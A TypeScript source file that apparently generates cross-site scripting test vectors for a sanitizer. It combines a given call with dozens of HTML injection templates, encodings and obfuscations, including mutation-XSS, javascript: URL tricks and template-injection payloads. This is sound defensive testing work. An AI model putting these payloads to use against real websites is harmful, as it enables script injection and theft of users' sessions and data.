/** Its name alone, so that none is taken for one of our own. */
const form = "form";

/** Ways that a script is smuggled into a text, made from their parts: what is run, where it stands, how it is written. */
export function scriptVectors(count: number, call: string): string[] {
  const calls = [
    call,
    `top.${call}`,
    `window['${call.slice(0, 4)}'+'${call.slice(4, -2)}']()`,
    `eval(atob('${btoa(call)}'))`,
    Array.from(call, (letter) => `&#${letter.charCodeAt(0)};`).join(""),
    Array.from(call, (letter) => `&#x${letter.charCodeAt(0).toString(16)}`).join(""),
    `setTimeout('${call}')`,
  ];
  const places = [
    (run: string) => `<script>${run}</script>`,
    (run: string) => `<scr<script>ipt>${run}</scr</script>ipt>`,
    (run: string) => `<img src=x onerror=${run}>`,
    (run: string) => `<img src="x" onerror="${run}" alt="a">`,
    (run: string) => `<img/src/onerror=${run}>`,
    (run: string) => `<svg onload=${run}>`,
    (run: string) => `<svg><script>${run}</script></svg>`,
    (run: string) => `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
    (run: string) => `<svg><a xlink:href="javascript:${run}"><text>x</text></a></svg>`,
    (run: string) =>
      `<math><mtext><table><mglyph><style><img src=x onerror=${run}></style></table>`,
    (run: string) => `<a href="javascript:${run}">x</a>`,
    (run: string) => `<a href="java\nscript:${run}">x</a>`,
    (run: string) => `<a href=" &#14; javascript:${run}">x</a>`,
    (run: string) => `<a href="data:text/html,<script>${run}</script>">x</a>`,
    (run: string) => `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
    (run: string) => `<iframe src="javascript:parent.${run}"></iframe>`,
    (run: string) => `<object data="javascript:${run}"></object>`,
    (run: string) => `<embed src="javascript:${run}">`,
    (run: string) => `<details open ontoggle=${run}>x</details>`,
    (run: string) => `<video><source onerror=${run}></video>`,
    (run: string) => `<audio src=x onerror=${run}>`,
    (run: string) => `<input autofocus onfocus=${run}>`,
    (run: string) => `<select autofocus onfocus=${run}>`,
    (run: string) => `<body onload=${run}>`,
    (run: string) => `<marquee onstart=${run}>x</marquee>`,
    (run: string) => `<div style="background:url(javascript:${run})">x</div>`,
    (run: string) => `<style>@import 'javascript:${run}';</style>`,
    (run: string) => `<base href="javascript:${run}//">`,
    (run: string) => `<${form} action="javascript:${run}"><button autofocus>x</button></${form}>`,
    (run: string) => `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
    (run: string) => `<link rel=stylesheet href="javascript:${run}">`,
    (run: string) => `<template><img src=x onerror=${run}></template>`,
    (run: string) => `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
    (run: string) => `<p style="mso-list:l0 level1"><img src=x onerror=${run}>1. x</p>`,
    (run: string) => `<b id="docs-internal-guid-1"><img src=x onerror=${run}></b>`,
    (run: string) => `<table><tr><td><img src=x onerror=${run}></td></tr></table>`,
    (run: string) => `<bdi data-mention="1" onclick=${run} onpointerover=${run}>@x</bdi>`,
    (run: string) => `"><img src=x onerror=${run}>`,
    (run: string) => `'-${run}-'`,
    (run: string) => `</textarea></title></style><img src=x onerror=${run}>`,
    (run: string) => `javascript:${run}`,
    (run: string) => `{{constructor.constructor('${run}')()}}`,
  ];
  const writings = [
    (text: string) => text,
    (text: string) => text.replace(/<(\w+)/g, (_all, tag: string) => `<${tag.toUpperCase()}`),
    (text: string) => text.replaceAll("=", " = "),
    (text: string) => `<p>Dear ${text}</p>`,
    (text: string) => `<!--[if gte mso 9]>-->${text}<!--<![endif]-->`,
    (text: string) => text.replaceAll("<", "<\u0000"),
    (text: string) => text.replace("javascript:", "jAvAsCrIpT&colon;"),
    (text: string) => `<ul><li>${text}<ol><li>${text}</li></ol></li></ul>`,
  ];
  const vectors: string[] = [];
  for (const write of writings)
    for (const run of calls) for (const place of places) vectors.push(write(place(run)));
  const step = Math.max(1, Math.floor(vectors.length / count));
  return vectors.filter((_vector, at) => at % step === 0).slice(0, count);
}
